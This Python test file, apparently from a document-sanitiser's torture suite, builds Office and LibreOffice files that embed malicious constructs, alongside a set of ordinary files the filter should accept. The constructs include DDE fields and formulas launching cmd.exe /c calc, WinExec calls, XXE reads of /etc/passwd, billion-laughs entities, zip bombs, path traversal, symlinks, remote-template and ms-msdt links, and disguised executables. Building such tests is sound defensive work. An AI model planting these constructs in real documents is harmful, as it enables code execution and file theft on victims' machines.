"""Office files: ordinary ones, to which something is added that no office needs."""

import io
import stat
import struct
import zipfile
import zlib

from tests.dispositifs.fichiers import (
    OLE,
    archive,
    docx_file,
    encrypted_entries,
    encrypted_office,
    lying_size,
    odf,
    pdf,
    pptx_file,
    with_entries,
    xlsx_file,
)
from tests.torture.cas import ACCEPTE, cas

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EXE = b"MZ" + b"\0" * 58 + struct.pack("<L", 64) + b"PE\0\0" + b"\0" * 40
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"


# --- Word, Excel, PowerPoint ---------------------------------------------------------------------
def word(body, name="word/footnotes.xml"):
    """A letter with one more part, made of this."""
    return with_entries(docx_file(), {name: f'<w:x xmlns:w="{W}">{body}</w:x>'})


def field(*runs):
    """A field of Word; its code is cut where Word cuts it."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    codes = "".join(run if run[0] == "<" else f"<w:instrText>{run}</w:instrText>" for run in runs)
    return mark.format("begin") + codes + mark.format("separate") + mark.format("end")


def relation(kind, target, mode="External", part="word/_rels/footnotes.xml.rels", make=docx_file):
    return with_entries(
        make(),
        {
            part: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relations'
            f'hips"><Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}"'
            f' TargetMode="{mode}"/></Relationships>'
        },
    )


def sheet(formula):
    body = f'<worksheet xmlns="{S}"><sheetData><row><c>{formula}</c></row></sheetData></worksheet>'
    return with_entries(xlsx_file(), {"xl/worksheets/sheet9.xml": body})


def external(body):
    return with_entries(
        xlsx_file(),
        {"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}">{body}</externalLink>'},
    )


def slide(action):
    body = f'<p xmlns:a="x"><a:hlinkClick action="{action}"/></p>'
    return with_entries(pptx_file(), {"ppt/slides/slide1.xml": body})


def embedded(name, content, make=docx_file):
    return with_entries(make(), {name: content})


CALC = "c:\\\\windows\\\\system32\\\\cmd.exe"
INNER = "word/embeddings/Feuille.xlsx"


# --- LibreOffice ---------------------------------------------------------------------------------
def content(body, extension="odt"):
    names = "office table text draw script presentation meta form svg"
    spaces = " ".join(f'xmlns:{name}="{OFFICE}{name}:1.0"' for name in names.split())
    xml = f'<office:body {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:body>'
    return odf(extension, **{"content.xml": xml})


# --- archives ------------------------------------------------------------------------------------
def overlapping(copies=200):
    """The same compressed megabytes, named two hundred times in the directory."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, body in parts(docx_file()).items():
            zipped.writestr(name, body)
        zipped.writestr("word/b.xml", b"<b>" + b"0123456789" * 50_000 + b"</b>")
        entry = zipped.getinfo("word/b.xml")
        for rank in range(copies):
            twin = zipfile.ZipInfo(f"word/b{rank}.xml")
            for field_name in ("compress_size", "file_size", "CRC", "header_offset"):
                setattr(twin, field_name, getattr(entry, field_name))
            twin.compress_type = entry.compress_type
            zipped.filelist.append(twin)
    return made.getvalue()


def parts(content):
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def many_bombs(count=30):
    """Each part stays under the ratio; together they pass what is opened."""
    part = zlib_friendly()
    return with_entries(docx_file(), {f"word/b{rank}.xml": part for rank in range(count)})


def zlib_friendly():
    return b"<b>" + bytes(range(65, 91)) * (8 << 20 >> 5) + b"</b>"


def link_to(target):
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    made = io.BytesIO(docx_file())
    with zipfile.ZipFile(made, "a") as zipped:
        zipped.writestr(entry, target)
    return made.getvalue()


def packed_otherwise():
    made = io.BytesIO(docx_file())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_LZMA) as zipped:
        zipped.writestr("word/b.xml", "<b/>")
    return made.getvalue()


def huge_directory():
    """A last record that announces a directory of 4 GB."""
    made = bytearray(docx_file())
    struct.pack_into("<L", made, len(made) - 10, 0xFFFFFFFE)
    return bytes(made)


def wrong_sum():
    made = bytearray(odf("odt", **{"content.xml": "<office>bonjour</office>"}))
    position = made.find(zlib.compress(b"<office>bonjour</office>")[2:-4])
    made[position + 3] ^= 0xFF
    return bytes(made)


def quine():
    """An archive that holds itself, as far as anybody opens it."""
    return embedded(
        "word/embeddings/copie.docx", embedded("word/embeddings/copie.docx", docx_file())
    )


ENTITIES = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'>{}]><x>&z;</x>".format(
    "".join(f"<!ENTITY {chr(n)} '{f'&{chr(n - 1)};' * 20}'>" for n in range(98, 123))
)

CAS = [
    *cas(
        "macros",
        vba__xlsx=lambda: embedded("xl/vbaProject.bin", OLE, xlsx_file),
        vba_deplace__docx=lambda: embedded("word/autre/VBAPROJECT.BIN", b"x"),
        excel4__xlsx=lambda: embedded("xl/macrosheets/s1.xml", "<x/>", xlsx_file),
        dialogue__xlsx=lambda: embedded("xl/dialogsheets/s1.xml", "<x/>", xlsx_file),
        declare__docx=lambda: archive({"[Content_Types].xml": "word.document.macroEnabled"}),
        type_vba__docx=lambda: with_entries(
            docx_file(),
            {
                "word/t.xml": '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            },
        ),
        nom_xlm__xlsx=lambda: sheet('<definedName name="Auto_Open" xlm="1">A1</definedName>'),
        appel__xlsx=lambda: sheet('<f>CALL("kernel32","WinExec","JFJ","calc",0)</f>'),
        registre__xlsx=lambda: sheet('<f>REGISTER("kernel32","WinExec","JFJ","w")</f>'),
        diapo_macro__pptx=lambda: slide("ppaction://macro?name=x"),
        xlsm__xlsm=xlsx_file,
        basic__odt=lambda: odf("odt", **{"Basic/Standard/Module1.xml": "<x/>"}),
        python__ods=lambda: odf("ods", **{"Scripts/python/x.py": "import os"}),
        bibliotheque__odt=lambda: content('<office:library-embedded office:name="S"/>'),
        evenement__odt=lambda: content(
            '<script:event-listener script:language="ooo:script"'
            ' xlink:href="vnd.sun.star.script:S.M.main?language=Basic&amp;location=application"/>'
        ),
        execution__odp=lambda: content(
            '<presentation:event-listener presentation:action="execute" xlink:href="calc.exe"/>',
            "odp",
        ),
    ),
    *cas(
        "dde",
        dde__docx=lambda: word(field(f'DDEAUTO "{CALC}" "/k calc"')),
        dde_coupe__docx=lambda: word(field(" D", "DE", f'AUTO "{CALC}"')),
        dde_simple__docx=lambda: word(f"<w:fldSimple w:instr=' dde {CALC}'/>"),
        dde_ouvert__docx=lambda: word(
            '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x y</w:instrText>'
        ),
        dde_sans_champ__docx=lambda: word("<w:instrText>DDEAUTO x</w:instrText>"),
        dde_prefixe__docx=lambda: with_entries(
            docx_file(),
            {"word/h.xml": f'<z:x xmlns:z="{W}"><z:instrText>DDE a b</z:instrText></z:x>'},
        ),
        dde_utf16__docx=lambda: with_entries(
            docx_file(),
            {
                "word/h.xml": '<?xml version="1.0" encoding="utf-16"?>'
                f'<w:x xmlns:w="{W}"><w:instrText>DDE a b</w:instrText></w:x>'.encode("utf-16")
            },
        ),
        dde_code__docx=lambda: word(field("&#68;&#x44;E x y")),
        dde_cdata__docx=lambda: word(field("<w:instrText>D<![CDATA[D]]>E x y</w:instrText>")),
        dde_calcule__docx=lambda: word(field(field("QUOTE 68 68 69"), " c: x")),
        dde_autre_nom__docx=lambda: word(field("DDEAUTO a b"), "word/media/image1.png"),
        lien_dde__xlsx=lambda: external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        formule_cmd__xlsx=lambda: sheet("<f>cmd|'/c calc'!A0</f>"),
        formule_dde__xlsx=lambda: sheet('<f>DDE("cmd";"/c calc";"x")</f>'),
        formule_prefixe__xlsx=lambda: sheet("<f>IF(TRUE,msexcel|'\\..\\cmd.exe'!'')</f>"),
        validation__xlsx=lambda: sheet("<formula1>cmd|'/c calc'!A0</formula1>"),
        nom_dde__xlsx=lambda: sheet("<definedName name='x'>cmd|'/c calc'!A0</definedName>"),
        source__odt=lambda: content('<office:dde-source office:dde-application="soffice"/>'),
        declaration__odt=lambda: content("<text:dde-connection-decl/>"),
        liens__ods=lambda: content("<table:dde-link/>", "ods"),
        formule__ods=lambda: content(
            '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)"/>',
            "ods",
        ),
    ),
    *cas(
        "liaisons",
        modele_distant__docx=lambda: relation("attachedTemplate", "https://x.invalid/m.dotm"),
        modele_serveur__docx=lambda: relation("attachedTemplate", "file:///\\\\srv\\m.dotm"),
        modele_hote__docx=lambda: relation("attachedTemplate", "file://srv/m.dotm"),
        objet_distant__docx=lambda: relation("oleObject", "https://x.invalid/x.html!"),
        image_distante__docx=lambda: relation("image", "http://x.invalid/p.png"),
        image_locale__docx=lambda: relation("image", "file:///C:/Users/x/p.png"),
        cadre__docx=lambda: relation("frame", "http://x.invalid/"),
        sous_document__docx=lambda: relation("subDocument", "autre.docx"),
        publipostage__docx=lambda: relation("mailMergeSource", "file:///C:/b.xlsx"),
        mode_casse__docx=lambda: relation("image", "http://x.invalid/p.png", "EXTERNAL"),
        lien_programme__docx=lambda: relation("hyperlink", "javascript:alert(1)"),
        lien_diagnostic__docx=lambda: relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        champ_lien__docx=lambda: word(field('LINK Excel.Sheet.12 "C:\\\\x.xlsx"')),
        champ_texte__docx=lambda: word(field('INCLUDETEXT "http://x.invalid/a.docx"')),
        champ_image__docx=lambda: word(field('INCLUDEPICTURE "http://x.invalid/a.png" \\d')),
        champ_image_serveur__docx=lambda: word(field('INCLUDEPICTURE "\\\\\\\\srv\\\\a.png"')),
        vml__docx=lambda: word('<v:imagedata xmlns:v="urn:v" src="http://x.invalid/a.png"/>'),
        vml_a_part__xlsx=lambda: embedded(
            "xl/drawings/vmlDrawing1.vml", "<xml><br><v:fill src='\\\\srv\\a.png'>", xlsx_file
        ),
        classeur__xlsx=lambda: relation(
            "externalLinkPath", "autre.xlsx", part="xl/_rels/e.rels", make=xlsx_file
        ),
        classeur_cite__xlsx=lambda: external('<oleLink progId="Package"/>'),
        connexions__xlsx=lambda: embedded(
            "xl/connections.xml", f'<connections xmlns="{S}"/>', xlsx_file
        ),
        service__xlsx=lambda: sheet('<f>_xlfn.WEBSERVICE("http://x.invalid/?"&amp;A1)</f>'),
        image_formule__xlsx=lambda: sheet('<f>_xlfn.IMAGE("http://x.invalid/a.png")</f>'),
        temps_reel__xlsx=lambda: sheet('<f>RTD("prog","srv","x")</f>'),
        video__pptx=lambda: relation(
            "video", "http://x.invalid/v.mp4", part="ppt/slides/_rels/s.rels", make=pptx_file
        ),
        image__odt=lambda: content('<draw:image xlink:href="http://x.invalid/a.png"/>'),
        image_serveur__odt=lambda: content('<draw:image xlink:href="\\\\srv\\a.png"/>'),
        image_voisine__odt=lambda: content('<draw:image xlink:href="../a.png"/>'),
        section__odt=lambda: content('<text:section-source xlink:href="file:///etc/passwd"/>'),
        table__ods=lambda: content('<table:table-source xlink:href="../autre.ods"/>', "ods"),
        cadre__odt=lambda: content('<draw:floating-frame xlink:href="http://x.invalid/"/>'),
        modele__odt=lambda: content('<meta:template xlink:href="http://x.invalid/m.ott"/>'),
        lien__odt=lambda: content('<text:a xlink:href="vnd.sun.star.script:x"/>'),
        formulaire__odt=lambda: content('<form:form xlink:href="http://x.invalid/"/>'),
        service__ods=lambda: content(
            '<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>', "ods"
        ),
    ),
    *cas(
        "incorpore",
        ole__docx=lambda: embedded("word/embeddings/oleObject1.bin", OLE),
        ole_renomme__pptx=lambda: embedded("ppt/media/image1.png", OLE, pptx_file),
        programme__docx=lambda: embedded("word/embeddings/outil.exe", EXE),
        programme_cache__xlsx=lambda: embedded("xl/media/image1.emf", EXE, xlsx_file),
        raccourci__docx=lambda: embedded("word/a.lnk", b"x"),
        script__odt=lambda: odf("odt", **{"Pictures/a.vbs": "x"}),
        elf__odt=lambda: odf("odt", **{"Pictures/a.png": b"\x7fELF"}),
        archive__docx=lambda: embedded("word/media/a.zip", archive({"a": "a"})),
        pdf__docx=lambda: embedded("word/embeddings/a.bin", pdf()),
        rtf__docx=lambda: relation("aFChunk", "a.rtf", "Internal"),
        activex__docx=lambda: embedded("word/activeX/activeX1.xml", "<x/>"),
        volet__docx=lambda: embedded("word/webextensions/taskpanes.xml", "<x/>"),
        ole__odt=lambda: odf("odt", **{"Object 1": OLE}),
        appliquette__odt=lambda: content("<draw:applet/>"),
        diapo_programme__pptx=lambda: slide("ppaction://program"),
        quine__docx=quine,
        classeur_hors_place__docx=lambda: embedded("word/media/a.xlsx", xlsx_file()),
    ),
    *cas(
        "macros",
        classeur_interne__docx=lambda: embedded(
            INNER, with_entries(xlsx_file(), {"xl/vbaProject.bin": b"x"})
        ),
    ),
    *cas(
        "dde",
        dde_interne__pptx=lambda: embedded(
            "ppt/embeddings/F.xlsx", sheet("<f>cmd|'/c calc'!A0</f>"), pptx_file
        ),
    ),
    *cas(
        "chemins",
        entites__docx=lambda: embedded("word/e.xml", ENTITIES),
        rires__xlsx=lambda: embedded("xl/e.xml", LAUGHS, xlsx_file),
        rires__odt=lambda: odf("odt", **{"meta.xml": LAUGHS}),
        doctype_distant__docx=lambda: embedded("word/e.xml", '<!DOCTYPE x SYSTEM "http://x/"><x/>'),
        remonte__docx=lambda: embedded("../../etc/cron.d/x", "x"),
        absolu__odt=lambda: odf("odt", **{"/etc/passwd": "x"}),
        disque__docx=lambda: embedded("C:\\x.xml", "x"),
        contre_oblique__xlsx=lambda: embedded("xl\\..\\..\\x", "x", xlsx_file),
        lien_symbolique__docx=lambda: link_to("/etc/passwd"),
        jumeaux__docx=lambda: embedded("WORD/document.xml", "<x/>"),
        autre_compression__docx=packed_otherwise,
    ),
    *cas(
        "demesure",
        bombe__docx=lambda: embedded("word/b.xml", b"0" * (30 << 20)),
        nuee__xlsx=lambda: with_entries(xlsx_file(), dict.fromkeys(map(str, range(5000)), "")),
        parties__docx=many_bombs,
        chevauchement__docx=overlapping,
        repertoire__docx=huge_directory,
    ),
    *cas(
        "protege",
        chiffre__docx=encrypted_office,
        chiffre__odt=lambda: odf("odt", **{"META-INF/manifest.xml": "<encryption-data/>"}),
        entrees_chiffrees__odt=lambda: encrypted_entries(odf("odt")),
    ),
    *cas(
        "ancien-format",
        ancien__doc=lambda: OLE,
        ancien_renomme__docx=lambda: OLE * 3,
        ancien__xls=lambda: OLE,
    ),
    *cas(
        "abime",
        tronque__docx=lambda: docx_file()[:4000],
        taille_fausse__odt=lambda: lying_size(
            odf("odt", **{"content.xml": "<x>" + "x" * 900 + "</x>"}), "content.xml"
        ),
        somme_fausse__odt=wrong_sum,
        xml_ouvert__docx=lambda: embedded("word/e.xml", "<x><y></x>"),
    ),
    *cas(
        "double",
        commentaire__docx=lambda: docx_file()[:-2] + struct.pack("<H", 4) + b"<a/>",
        page_derriere__docx=lambda: docx_file() + b"<html><script>alert(1)</script>",
    ),
    *cas(
        "type",
        tableur__docx=xlsx_file,
        texte__ods=lambda: odf("odt"),
        archive__xlsx=lambda: archive({"a.txt": "a"}),
        devant__docx=lambda: b"MZ" + docx_file(),
        pdf__docx=pdf,
    ),
    *cas(
        ACCEPTE,
        simple__docx=docx_file,
        simple__xlsx=xlsx_file,
        simple__pptx=pptx_file,
        simple__odt=lambda: odf("odt"),
        simple__ods=lambda: odf("ods"),
        simple__odp=lambda: odf("odp"),
        lien_ordinaire__docx=lambda: relation("hyperlink", "https://www.gouv.fr/?a=b"),
        lien_courriel__docx=lambda: relation("hyperlink", "mailto:a@b.fr"),
        lien_voisin__docx=lambda: relation("hyperlink", "../autre.docx"),
        modele_du_poste__docx=lambda: relation(
            "attachedTemplate", "file:///C:\\Users\\x\\Modeles\\Note.dotx"
        ),
        champs_ordinaires__docx=lambda: word(
            field("PAGE")
            + field(" IF ", field("MERGEFIELD x"), ' = "1" "a" "b"')
            + field('HYPERLINK "https://x.fr"')
            + field('TOC \\o "1-3"')
        ),
        formules_ordinaires__xlsx=lambda: sheet(
            '<f>IF(A1="cmd|x!y",SUM(B1:B9),"DDE(")+SUM(\'Suivi | 2025\'!A1)</f>'
        ),
        police__docx=lambda: embedded("word/fonts/font1.odttf", b"<" + bytes(range(1, 200)) * 9),
        dessin__docx=lambda: embedded(
            "word/media/image2.svg",
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd"><svg/>',
        ),
        dessin__odt=lambda: odf(
            "odt",
            **{
                "Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"'
                ' xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="data:image/png;base64,A"/>'
                '<use xlink:href="#a"/></svg>'
            },
        ),
        classeur_d_un_graphique__docx=lambda: embedded(INNER, xlsx_file()),
        lien__odt=lambda: content('<text:a xlink:href="https://www.gouv.fr/"/>'),
        diapo_lien__odp=lambda: content(
            '<presentation:event-listener presentation:action="show" xlink:href="#page2"/>', "odp"
        ),
        formule_heritee__odt=lambda: odf(
            "odt",
            **{
                "Object 1/content.xml": '<!DOCTYPE math PUBLIC "-//OpenOffice.org//DTD Modified'
                ' W3C MathML 1.01//EN" "math.dtd"><math/>'
            },
        ),
    ),
]
